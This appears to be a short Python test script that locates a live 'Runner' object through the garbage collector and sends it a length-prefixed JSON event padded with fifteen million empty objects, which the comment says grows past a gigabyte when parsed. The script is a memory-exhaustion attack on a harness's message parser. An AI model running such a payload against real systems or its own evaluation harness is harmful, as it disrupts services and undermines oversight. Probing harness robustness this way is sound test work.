# tries: an event of sixty megabytes that becomes more than a gigabyte when it is read
# control: 0
import gc
import struct

run = next(o for o in gc.get_objects() if type(o).__name__ == "Runner" and hasattr(o, "steps"))
text = b'{"event": "start", "step": 0, "branch": null, "sizes": [], "more": [' + b"{}," * 15_000_000 + b"6]}"
run.connection.sendall(struct.pack("<I", len(text)) + text)
double = None
